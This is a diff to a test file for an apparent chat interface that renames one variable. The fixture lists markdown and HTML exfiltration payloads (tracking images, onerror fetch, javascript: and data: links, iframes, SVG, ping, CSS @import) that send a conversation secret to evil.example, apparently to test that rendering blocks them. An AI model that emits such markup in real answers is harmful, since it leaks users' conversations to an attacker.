@@ -5,17 +5,17 @@ import { answers, askAndClaim, eventually } from './chat.ts'
 
 const fixture = setUpBrowser()
 
-const stolen = 'conversation-as-a-secret'
+const secretWords = 'conversation-as-a-secret'
 const answerText = [
-  `![a](https://evil.example/pixel?q=${stolen})`,
-  `<img src="https://evil.example/tag?q=${stolen}" onerror="fetch('https://evil.example/js?q=${stolen}')">`,
-  `[click](javascript:fetch('https://evil.example/link?q=${stolen}'))`,
-  `[data](data:text/html,<script>location='https://evil.example/?q=${stolen}'</script>)`,
-  `![b](//evil.example/relative?q=${stolen})`,
-  `<iframe src="https://evil.example/frame?q=${stolen}"></iframe><link rel="stylesheet" href="https://evil.example/css">`,
-  `<svg><image href="https://evil.example/svg?q=${stolen}"/></svg><video poster="https://evil.example/poster"></video>`,
-  `<a href="https://evil.example/ping" ping="https://evil.example/ping?q=${stolen}">ping</a>`,
-  `<style>@import url(https://evil.example/style?q=${stolen})</style><form action="https://evil.example/form"><button>go</button></form>`,
+  `![a](https://evil.example/pixel?q=${secretWords})`,
+  `<img src="https://evil.example/tag?q=${secretWords}" onerror="fetch('https://evil.example/js?q=${secretWords}')">`,
+  `[click](javascript:fetch('https://evil.example/link?q=${secretWords}'))`,
+  `[data](data:text/html,<script>location='https://evil.example/?q=${secretWords}'</script>)`,
+  `![b](//evil.example/relative?q=${secretWords})`,
+  `<iframe src="https://evil.example/frame?q=${secretWords}"></iframe><link rel="stylesheet" href="https://evil.example/css">`,
+  `<svg><image href="https://evil.example/svg?q=${secretWords}"/></svg><video poster="https://evil.example/poster"></video>`,
+  `<a href="https://evil.example/ping" ping="https://evil.example/ping?q=${secretWords}">ping</a>`,
+  `<style>@import url(https://evil.example/style?q=${secretWords})</style><form action="https://evil.example/form"><button>go</button></form>`,
   '[plain link](https://example.org/page)',
   'The end.',
 ].join('\n\n')
